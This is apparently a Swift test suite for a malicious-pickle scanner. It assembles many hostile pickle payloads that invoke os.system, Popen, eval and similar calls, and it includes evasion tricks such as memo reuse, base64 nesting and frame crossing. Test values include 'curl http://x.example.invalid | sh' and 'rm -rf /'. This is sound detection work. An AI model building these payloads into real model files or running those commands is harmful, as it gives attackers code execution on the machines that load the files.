import ModelFormats
import Testing

@testable import Scanning

/// What pickles do, and what must come of it.
@Suite struct PickleJudgeTests {
    struct Case: CustomTestStringConvertible, Sendable {
        var name: String
        var bytes: [UInt8]
        /// The rule and severity that must be among what is told.
        var told: String
        var testDescription: String { name }

        init(_ name: String, _ text: String, _ told: String) { self.init(name, Array(text.utf8), told) }

        init(_ name: String, _ bytes: [UInt8], _ told: String) {
            self.name = name
            self.bytes = bytes
            self.told = told
        }
    }

    private typealias A = Assembly

    static let dangerous: [Case] = [
        Case("a call of protocol 0", "cos\nsystem\n(S'echo hi'\ntR.", "critical pickle-dangerous-call"),
        Case("an escaped text", "c\(#"posix"#)\nsystem\n(S'\\x65cho'\ntR.", "critical pickle-dangerous-call"),
        Case("INST", "(S'echo hi'\nios\nsystem\n.", "critical pickle-dangerous-call"),
        Case("OBJ", [0x28] + A.global("os", "system") + A.text("echo") + [0x6f, 0x2e], "critical pickle-dangerous-call"),
        Case(
            "NEWOBJ_EX of Popen", A.proto(4) + A.stackGlobal("subprocess", "Popen") + [0x29, 0x7d, 0x92, 0x2e],
            "critical pickle-dangerous-import"),
        Case(
            "a name from the memo",
            A.proto(4) + A.text("os") + [0x94, 0x30] + A.text("system") + [0x94, 0x30, 0x68, 0, 0x68, 1, 0x93] + A.text("x") + [
                0x85, 0x52, 0x2e,
            ],
            "critical pickle-dangerous-call"),
        Case(
            "a memo slot that is overwritten",
            A.proto(2) + A.text("json") + [0x71, 7, 0x30] + A.text("os") + [0x71, 7, 0x30, 0x68, 7] + A.text("system") + [0x93]
                + A.text("x") + [0x85, 0x52, 0x2e],
            "critical pickle-dangerous-call"),
        Case("Python 2's name for it", "c__builtin__\neval\n(S'1'\ntR.", "critical pickle-dangerous-call"),
        Case(
            "Python 2's module that is called otherwise now", "ccommands\ngetoutput\n(S'id'\ntR.",
            "critical pickle-dangerous-call"),
        Case("a result that is thrown away", "cos\nsystem\n(S'x'\ntR0N.", "critical pickle-dangerous-call"),
        Case("before a broken opcode", "cos\nsystem\n(S'x'\ntR\u{1}", "critical pickle-dangerous-call"),
        Case("before the end of the file", "cos\nsystem\n(S'x'\ntR", "critical pickle-dangerous-call"),
        Case("in the second stream", "N.cos\nsystem\n(S'x'\ntR.", "critical pickle-dangerous-call"),
        Case(
            "after two hundred streams",
            [UInt8](repeating: 0, count: 200).flatMap { _ in Array("N.".utf8) } + Array("cos\nsystem\n(S'x'\ntR.".utf8),
            "critical pickle-dangerous-call"),
        Case("named and never called", A.proto(4) + A.stackGlobal("os", "system") + A.stop, "critical pickle-dangerous-import"),
        Case(
            "given to a harmless constructor",
            A.proto(4) + A.global("functools", "partial") + A.global("os", "system") + [0x85, 0x52, 0x2e],
            "critical pickle-dangerous-call"),
        Case(
            "a factory", A.proto(2) + A.global("collections", "defaultdict") + A.global("os", "getcwd") + [0x85, 0x52, 0x2e],
            "critical pickle-dangerous-call"),
        Case(
            "through torch", A.proto(4) + A.stackGlobal("torch", "os.system") + A.text("x") + [0x85, 0x52, 0x2e],
            "critical pickle-hidden-name"),
        Case("a module as a value", A.proto(4) + A.stackGlobal("numpy", "os") + A.stop, "high pickle-hidden-name"),
        Case("a dunder", A.proto(4) + A.stackGlobal("collections", "OrderedDict.__class__") + A.stop, "high pickle-hidden-name"),
        Case(
            "a name that is computed",
            A.proto(4) + A.global("builtins", "getattr") + A.text("") + A.text("join") + [0x86, 0x52] + [0x28] + A.text("o")
                + A.text("s") + [0x6c, 0x85, 0x52] + A.text("system") + [0x93, 0x2e],
            "critical pickle-computed-name"),
        Case(
            "a call of a call's result",
            A.proto(2) + A.global("operator", "attrgetter") + A.text("a") + [0x85, 0x52] + [0x29, 0x52, 0x2e],
            "critical pickle-computed-call"),
        Case(
            "state on a class",
            A.proto(2) + A.global("collections", "OrderedDict") + [0x7d] + A.text("x") + [0x4e, 0x73, 0x62, 0x2e],
            "high pickle-state-on-import"),
        Case(
            "an item of what is imported", A.proto(2) + A.global("os", "environ") + A.text("A") + A.text("b") + [0x73, 0x2e],
            "high pickle-state-on-import"),
        Case(
            "a dunder in a state",
            A.proto(2) + A.global("collections", "OrderedDict") + [0x29, 0x52, 0x7d] + A.text("__class__") + [
                0x4e, 0x73, 0x62, 0x2e,
            ], "high pickle-state-on-import"),
        Case(
            "what nothing in the standard library is for", A.proto(2) + A.call("smtpd", "SMTPServer", "x") + A.stop,
            "high pickle-standard-library"),
        Case(
            "a function that nobody knows", A.proto(2) + A.call("acme.tools", "rebuild", "x") + A.stop,
            "high pickle-unknown-function"),
        Case(
            "the same with a command",
            A.proto(2) + A.call("acme.tools", "rebuild", "curl http://x.example.invalid | sh") + A.stop,
            "critical pickle-unknown-function"),
        Case(
            "a ufunc that is none",
            A.proto(2) + A.global("numpy.core", "_ufunc_reconstruct") + A.text("os") + A.text("system") + [0x86, 0x52, 0x2e],
            "critical pickle-dangerous-arguments"),
        Case(
            "a class made at loading", A.proto(2) + A.global("builtins", "type") + A.text("X") + [0x29, 0x7d, 0x87, 0x52, 0x2e],
            "high pickle-dangerous-arguments"),
        Case(
            "a list without end",
            A.proto(2) + A.global("builtins", "list") + A.global("itertools", "count") + [0x29, 0x52, 0x85, 0x52, 0x2e],
            "high pickle-dangerous-arguments"),
        Case(
            "a registry of extensions",
            A.proto(2) + A.global("copyreg", "add_extension") + A.text("os") + A.text("system") + [
                0x4b, 1, 0x87, 0x52, 0x82, 1, 0x2e,
            ], "critical pickle-dangerous-call"),
        Case(
            "a scanner", A.proto(2) + A.global("fickling.hook", "remove_hook") + [0x29, 0x52, 0x2e],
            "critical pickle-dangerous-call"),
        Case("a second loader", A.proto(2) + A.call("torch", "load", "x.pt") + A.stop, "critical pickle-dangerous-call"),
        Case(
            "a frame that is crossed", A.proto(4) + [0x95] + A.little(3, 8) + [0x4e, 0x58, 0x02, 0, 0, 0, 0x61, 0x61, 0x2e],
            "high pickle-frame"),
        Case(
            "code that is brought along",
            A.proto(2) + A.global("types", "CodeType") + [0x28] + A.text("system") + A.text("popen") + [0x74, 0x52, 0x2e],
            "critical pickle-dangerous-call"),
        Case(
            "a member by getattr, called",
            A.proto(4) + A.global("builtins", "getattr") + A.global("acme", "Tool") + A.text("run") + [0x86, 0x52] + [
                0x29, 0x52, 0x2e,
            ], "critical pickle-computed-call"),
    ]

    @Test(arguments: dangerous) func isTold(_ example: Case) throws {
        let report = try scan(example.bytes)
        #expect(report.told.contains(example.told), "\(report.told) \(report.errors)")
    }

    static let harmless: [(String, [UInt8])] = [
        ("plain data", Array("(dp0\nS'os'\np1\nS'system'\np2\ns.".utf8)),
        ("text about an attack", A.proto(2) + A.text("cos\nsystem\n(S'rm -rf /'\ntR.") + A.stop),
        ("bytes that are never loaded", A.proto(3) + [0x43, 20] + Array("cos\nsystem\n(S'x'\ntR.".utf8) + A.stop),
        (
            "an ordered dictionary",
            A.proto(2) + A.global("collections", "OrderedDict") + [0x29, 0x52] + A.text("k") + [0x4b, 1, 0x73, 0x2e]
        ),
        (
            "an object of the oldest protocol",
            Array("ccopy_reg\n_reconstructor\n(csklearn.svm._classes\nSVC\nc__builtin__\nobject\nNtR.".utf8)
        ),
        (
            "an enum's member as Python 3.11 writes it",
            A.proto(4) + A.global("builtins", "getattr") + A.global("transformers.trainer_utils", "IntervalStrategy")
                + A.text("STEPS") + [0x86, 0x52, 0x2e]
        ),
        ("NumPy's own function as a value", A.proto(2) + A.global("numpy", "log1p") + A.stop),
        (
            "NumPy's ufunc",
            A.proto(2) + A.global("numpy.core", "_ufunc_reconstruct") + A.text("numpy") + A.text("log1p") + [0x86, 0x52, 0x2e]
        ),
        (
            "a default that is a function",
            A.proto(2) + A.global("collections", "defaultdict") + A.global("builtins", "list") + [0x85, 0x52, 0x2e]
        ),
    ]

    @Test func harmlessOnesAreClean() throws {
        for (name, bytes) in Self.harmless {
            let report = try scan(bytes)
            #expect(report.told.isEmpty && report.errors.isEmpty, "\(name): \(report.told) \(report.errors.map(\.message))")
        }
    }

    @Test func anUnknownClassIsMediumByItsName() throws {
        let report = try scan(A.proto(2) + A.global("acme.models", "Net") + [0x29, 0x81, 0x2e])
        #expect(report.told == ["medium pickle-unknown-class"])
        #expect(report.findings.first?.message.contains("acme.models.Net") == true)
    }

    @Test func aPickleInAPickleIsScannedWhereItIsLoaded() throws {
        let inner = Array("cos\nsystem\n(S'echo inner'\ntR.".utf8)
        let bytes =
            A.proto(3) + A.global("torch.storage", "_load_from_bytes") + [0x42] + A.little(inner.count, 4) + inner + [
                0x85, 0x52, 0x2e,
            ]
        let report = try scan(bytes)
        let found = try #require(report.findings.first { $0.rule == .pickleDangerousCall })
        #expect(
            found.evidence.member?.contains("_load_from_bytes") == true && found.evidence.snippet?.contains("echo inner") == true)
    }

    @Test func aPayloadInBase64IsOpened() throws {
        let bytes =
            A.proto(3) + A.global("pickle", "loads") + A.global("base64", "b64decode")
            + A.text("Y29zCnN5c3RlbQooUydlY2hvIGRlZXAnCnRSLg==") + [0x85, 0x52, 0x85, 0x52, 0x2e]
        let report = try scan(bytes)
        #expect(
            report.findings.contains { $0.evidence.snippet?.contains("echo deep") == true && $0.evidence.member != nil },
            "\(report.findings)")
    }

    /// CPython's unpickler drops the rest of a frame that an argument crosses; Python's own reads on. Both readings count.
    @Test func bothReadingsOfAFrameAreScanned() throws {
        // The frame ends within the length of a text: a linear reader sees a text that holds the call, the other one a short text and then the call.
        let hidden = Array("cos\nsystem\n(S'echo framed'\ntR.".utf8)
        let dropped: [UInt8] = [0x58, UInt8(hidden.count), 0]
        let bytes = A.proto(4) + [0x95] + A.little(dropped.count, 8) + dropped + [0, 0] + hidden + A.stop
        let report = try scan(bytes)
        #expect(report.findings.contains { $0.rule == .pickleFrame })
        #expect(
            report.findings.contains { $0.evidence.member == "read by frames" && $0.severity == .critical }
                || !report.errors.isEmpty, "\(report.findings) \(report.errors)")
    }

    @Test func whatRanIsToldBesideTheErrorThatEndsIt() throws {
        let report = try scan("cos\nsystem\n(S'x'\ntR\u{1}")
        #expect(report.worst == .critical && report.errors.count == 1)
    }

    @Test func theListingIsWhatAPersonWouldWrite() throws {
        let scanner = try FileScanner.scanned(
            MemorySource(Array("cos\nsystem\n(S'echo hi'\ntR.".utf8)), path: "m.pkl", wantsListings: true)
        #expect(
            scanner.report.listings.first?.lines == [
                "from os import system  # byte 0", "_0 = os.system(\"echo hi\")  # byte 24", "result = _0",
            ])
    }
}
